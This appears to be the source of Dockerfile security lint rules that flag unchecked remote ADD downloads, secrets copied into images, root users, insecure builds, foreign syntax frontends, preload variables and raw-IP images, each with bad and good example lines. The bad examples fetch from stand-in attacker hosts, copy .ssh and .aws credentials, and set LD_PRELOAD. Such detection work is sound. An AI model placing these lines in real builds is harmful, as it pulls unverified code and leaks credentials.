import { secretFile, sensitivePath } from './paths.ts';
import type { RowContext, RowMatch, SettingValue } from './setting-row.ts';
import { hostileUrl, isWebUrl, plainHttpReach } from './values.ts';
import { containerVariable, imageRegistry } from './containers-dev.ts';
import { DOCKERFILE } from './containers-row.ts';
import type { ContainerRow } from './containers-row.ts';

/** A remote file: plain http and collection points are never fine, others want a checksum. */
function fetchedFile(value: SettingValue): boolean | RowMatch {
  const url = String(value.value);
  if (!isWebUrl(url)) return false;
  const hostile = hostileUrl(url);
  if (hostile) return { preset: 'recommended', data: { what: `from a ${hostile}` } };
  const flags = value.parent?.parent?.get('flags');
  if (flags?.get('checksum')) return false;
  return plainHttpReach(url) === 'outside' ? { preset: 'recommended', data: { what: 'over plain http and unchecked' } } : { preset: 'strict', data: { what: 'unchecked' } };
}

/** Secrets that become part of an image. A project's `.npmrc` and `.env.production` often hold only settings, certificates are often public. */
function copiedSecret(value: SettingValue): boolean | RowMatch {
  const path = String(value.value);
  if (isWebUrl(path) || value.parent?.parent?.get('flags')?.get('from')) return false;
  const folder = /(?:^|\/)(\.ssh|\.aws|\.gnupg|\.kube|\.azure|\.docker)(?:\/|$)/.exec(path)?.[1];
  const what = folder === undefined ? (secretFile(path) ?? sensitivePath(path)) : `the folder ${folder}`;
  if (what === null) return false;
  const isUsual = what === 'npm token' || what === 'private key' || what === 'login file' || /\.env\.(?!local|secret|prod$)[\w.-]{1,60}$/.test(path);
  return { preset: isUsual ? 'strict' : 'recommended', data: { what, where: 'the image and every copy of it' } };
}

/** The last USER of the file decides as whom the container runs. */
function lastUserIsRoot(value: SettingValue, context: RowContext): boolean {
  if (!/^(?:root|0)(?::\w{1,40})?\s{0,10}$/.test(String(value.value))) return false;
  const { parent } = value;
  const rest = context.root.members.slice(context.root.members.findIndex((member) => member === parent) + 1);
  return parent !== null && parent.parent === context.root && !rest.some((member) => member.key === 'USER' || member.key === 'FROM');
}

const file = (...lines: readonly string[]): unknown => ({ text: `FROM node:22\n${lines.join('\n')}\n` });
const base = { preset: 'recommended', source: DOCKERFILE } as const;

/** The frontend that Docker itself publishes. */
const OWN_FRONTEND = /^(?:docker\.io\/)?docker\/dockerfile(?:-upstream)?(?:[:@]|$)/;

/** Dockerfiles, as `dockerfileTree` reads them (E3). Examples are lines of a Dockerfile. What RUN runs is reported by the rules about commands. */
export const DOCKERFILE_ROWS: readonly ContainerRow[] = [
  {
    ...base,
    id: 'E3-1',
    key: ['ADD.sources[]', 'ONBUILD.ADD.sources[]'],
    when: fetchedFile,
    report: 'download',
    at: 'value',
    cwe: [494, 829],
    allow: 'allowedHosts',
    bad: [file('ADD http://x.attacker.dev/a.tgz /a'), file('ADD https://example.dev/a.tgz /a'), file('ONBUILD ADD https://webhook.site/x /x'), file('ADD ["http://x.attacker.dev/a", "/a"]')],
    good: [file(`ADD --checksum=sha256:${'0'.repeat(64)} https://example.dev/a.tgz /a`), file('ADD a.tgz /a'), file('COPY http /x')],
  },
  {
    ...base,
    id: 'E3-1',
    key: ['{ADD,COPY}.sources[]', 'ONBUILD.{ADD,COPY}.sources[]'],
    when: copiedSecret,
    report: 'secretFile',
    at: 'value',
    cwe: [538],
    bad: [file('COPY .env /app/'), file('COPY .ssh /root/.ssh'), file('ADD .aws/credentials /x'), file('COPY package.json .npmrc ./')],
    good: [file('COPY .env.example /app/.env'), file('COPY package.json package-lock.json ./'), file('COPY --from=build /app/.env.sample /app/'), file('COPY .envrc.template /x'), file('RUN --mount=type=secret,id=npm npm ci')],
  },
  {
    ...base,
    id: 'E3-1',
    key: 'USER.value',
    when: lastUserIsRoot,
    report: 'rootUser',
    at: 'value',
    preset: 'strict',
    cwe: [250],
    bad: [file('USER root'), file('USER node', 'RUN x', 'USER 0:0')],
    good: [file('USER root', 'RUN x', 'USER node'), file('RUN x'), file('USER root', 'FROM node:22', 'USER node')],
  },
  { ...base, id: 'E3-1', key: 'RUN.flags.security', is: 'insecure', report: 'insecureBuild', cwe: [250], bad: [file('RUN --security=insecure make')], good: [file('RUN --security=sandbox make'), file('RUN make --security=insecure')] },
  {
    ...base,
    id: 'E3-1',
    key: 'directive.syntax',
    when: (value, context) => !OWN_FRONTEND.test(String(value.value)) && !context.isAllowed('allowedHosts', `https://${String(value.value)}`),
    report: 'syntax',
    cwe: [829],
    allow: 'allowedHosts',
    bad: [{ text: '# syntax=attacker/frontend:1\nFROM node:22\n' }],
    good: [{ text: '# syntax=docker/dockerfile:1\nFROM node:22\n' }, { text: '# escape=`\nFROM x\n' }],
  },
  { ...base, id: 'E3-1', key: ['ENV.*', 'ONBUILD.ENV.*'], when: containerVariable, report: 'variable', cwe: [426], bad: [file('ENV LD_PRELOAD=./x.so'), file('ENV NODE_ENV=production NODE_OPTIONS="--require ./x.js"')], good: [file('ENV NODE_OPTIONS=--max-old-space-size=4096'), file('ENV PATH=/app/node_modules/.bin:$PATH'), file('ENV PATH="/root/.local/bin:${PATH}" X=y')] },
  { ...base, id: 'E3-1', key: 'FROM.image', when: (value) => imageRegistry(String(value.value)) && { data: { what: 'comes from an address instead of a registry' } }, report: 'image', cwe: [1357], bad: [{ text: 'FROM 45.61.3.2/x:1\n' }], good: [{ text: 'FROM node\n' }, { text: 'FROM --platform=$BUILDPLATFORM registry.local/x:1\n' }] },
];
